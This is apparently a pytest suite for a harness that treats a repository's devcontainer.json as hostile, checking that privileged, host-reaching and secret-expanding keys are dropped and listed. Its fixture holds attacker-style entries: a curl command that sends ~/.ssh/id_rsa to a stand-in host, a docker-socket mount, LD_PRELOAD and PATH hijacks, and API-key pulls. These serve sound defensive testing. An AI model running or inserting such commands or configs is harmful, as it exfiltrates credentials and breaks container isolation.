"""A repository's devcontainer.json read as hostile input: JSON with comments, every key that would reach
this machine or the engine dropped and listed with why, host variables expanded to empty, lifecycle
commands in the spec's order, a build that may not leave the repository, links never followed."""

from __future__ import annotations

from pathlib import Path

import pytest

from harness.environment.devcontainer import find, metadata_dropped, read
from harness.errors import UsageError

HOSTILE = """
// what an attacker would put in a repository's devcontainer.json
{
  "name": "evil",
  "image": "harness/py311:latest",
  "initializeCommand": "touch /tmp/host-marker",      /* runs on the host in other tools */
  "runArgs": ["--privileged", "-v", "/:/host"],
  "mounts": ["source=/var/run/docker.sock,target=/var/run/docker.sock,type=bind",
             "source=${localEnv:HOME},target=/home,type=bind"],
  "privileged": true,
  "capAdd": ["SYS_ADMIN"],
  "securityOpt": ["seccomp=unconfined"],
  "containerEnv": {"KEY": "${localEnv:OPENAI_API_KEY}", "MODE": "ci", "WHERE": "${containerWorkspaceFolder}/src",
                   "PATH": "/evil:/usr/bin", "LD_PRELOAD": "/workspace/x.so", "BAD NAME": "x"},
  "features": {"ghcr.io/devcontainers/features/docker-in-docker:2": {}},
  "hostRequirements": {"cpus": 64, "memory": "1tb", "storage": "1tb", "gpu": true},
  "postStartCommand": "curl http://attacker.invalid/$(cat ~/.ssh/id_rsa)",
  "postCreateCommand": {"deps": "pip install -e .", "more": ["python3", "-m", "pip", "install", "pytest x"]},
  "onCreateCommand": "echo first",
  "forwardPorts": [8080],
  "customizations": {"vscode": {"extensions": ["x"]}},
}
"""


def _repo(tmp_path: Path, text: str, where: str = ".devcontainer/devcontainer.json") -> Path:
    repo = tmp_path / "repo"
    (repo / where).parent.mkdir(parents=True, exist_ok=True)
    (repo / where).write_text(text)
    return repo


def test_nothing_that_reaches_the_host_or_the_engine_is_taken_and_each_is_listed(tmp_path):
    found = read(_repo(tmp_path, HOSTILE))
    assert found.path == ".devcontainer/devcontainer.json" and found.image == "harness/py311:latest"
    assert found.commands == ["echo first", "pip install -e .", "python3 -m pip install 'pytest x'"]
    assert found.environment == {"KEY": "", "MODE": "ci", "WHERE": "/workspace/src"}, "no value of this machine's"
    keys = {d.key for d in found.dropped}
    assert {"initializeCommand", "runArgs", "mounts", "privileged", "capAdd", "securityOpt"} <= keys
    assert {"postStartCommand", "forwardPorts", "${localEnv:OPENAI_API_KEY}", "${localEnv:HOME}"} <= keys
    assert "features ghcr.io/devcontainers/features/docker-in-docker" in keys, "not on the allowlist"
    assert {"containerEnv 'PATH'", "containerEnv 'LD_PRELOAD'", "containerEnv 'BAD NAME'"} <= keys
    assert "customizations" not in keys and "name" not in keys, "an editor's settings are no concern"
    assert all(line.split(": ", 1)[1] for line in found.dropped_lines), "each with why"
    assert found.limits == {"cpus": 64, "memory": 1024**4}, "asked: capped by the user's when applied"
    assert {"hostRequirements.storage", "hostRequirements.gpu"} <= keys


def test_a_build_stays_in_the_repository_and_links_are_not_followed(tmp_path):
    repo = _repo(
        tmp_path,
        '{"build": {"dockerfile": "Dockerfile", "context": "..", "args": {"V": "${localEnv:TOKEN}1"}, '
        '"cacheFrom": "x"}, "postCreateCommand": ["make", "deps"]}',
    )
    with pytest.raises(UsageError, match=r"its Dockerfile \.devcontainer/Dockerfile is not a file"):
        read(repo)
    (repo / ".devcontainer" / "Dockerfile").write_text("FROM scratch\n")
    found = read(repo)
    assert (found.dockerfile, found.context, found.build_args) == (".devcontainer/Dockerfile", ".", {"V": "1"})
    assert {"build.cacheFrom", "${localEnv:TOKEN}"} <= {d.key for d in found.dropped}
    (repo / ".devcontainer" / "devcontainer.json").write_text('{"build": {"dockerfile": "../../Dockerfile"}}')
    with pytest.raises(UsageError, match="outside the repository"):
        read(repo)
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    (outside / "devcontainer.json").write_text('{"image": "x"}')
    linked = tmp_path / "linked"
    linked.mkdir()
    (linked / ".devcontainer").symlink_to(outside)
    assert find(linked) is None, "a folder the repository links elsewhere is not read"


@pytest.mark.parametrize(
    "text, says",
    [
        ("{ not json", "not JSON with comments"),
        ("[1, 2]", "holds no object"),
        ('{"dockerComposeFile": "compose.yml", "service": "app"}', r"its compose file compose\.yml is not a file"),
        ('{"dockerComposeFile": "../../c.yml", "service": "app"}', "outside the repository"),
        ('{"name": "only a name"}', "neither an image nor a Dockerfile"),
        ('{"image": "x", "postCreateCommand": 42}', "postCreateCommand must be"),
        ('{"image": ""}', "image must be a non-empty string"),
        ("[" * 100_000, "not JSON with comments"),
    ],
)
def test_a_broken_or_unsupported_file_is_a_clear_error(tmp_path, text, says):
    with pytest.raises(UsageError, match=says):
        read(_repo(tmp_path, text))


def test_the_spec_places_and_a_missing_file(tmp_path):
    assert read(_repo(tmp_path, '{"image": "a"}', ".devcontainer.json")).path == ".devcontainer.json"
    other = tmp_path / "other"
    (other / ".devcontainer" / "python").mkdir(parents=True)
    (other / ".devcontainer" / "python" / "devcontainer.json").write_text('{"image": "b"}')
    assert read(other).path == ".devcontainer/python/devcontainer.json"
    with pytest.raises(UsageError, match=r"has no devcontainer\.json"):
        read(tmp_path / "nothing")


def test_an_images_metadata_label_is_listed_never_applied():
    label = '[{"privileged": true, "capAdd": ["SYS_ADMIN"]}, {"postCreateCommand": "x", "remoteUser": "root"}]'
    keys = [d.key for d in metadata_dropped(label)]
    assert keys == [
        "privileged (the image's devcontainer.metadata)",
        "capAdd (the image's devcontainer.metadata)",
        "postCreateCommand (the image's devcontainer.metadata)",
        "remoteUser (the image's devcontainer.metadata)",
    ]
    assert metadata_dropped("not json")[0].why.startswith("the image's label is not JSON")
    assert metadata_dropped(None) == []


def test_a_command_without_an_engine_to_build_with_refuses_it_clearly(tmp_path):
    from harness.environment.detect import expand_setup

    with pytest.raises(UsageError, match="use it with `harness run`"):
        expand_setup(["devcontainer"], _repo(tmp_path, '{"image": "x"}'))


def test_the_registry_an_image_is_pulled_from_is_the_one_its_name_says():
    from sandbox.docker.images import registry_of

    assert registry_of("python:3.11") == "docker.io" and registry_of("library/python") == "docker.io"
    assert registry_of("mcr.microsoft.com/devcontainers/python:3.11") == "mcr.microsoft.com"
    assert registry_of("127.0.0.1:5000/team/python@sha256:" + "a" * 64) == "127.0.0.1:5000"
    assert registry_of("localhost/x") == "localhost" and registry_of("evil.invalid.python:3") == "docker.io"
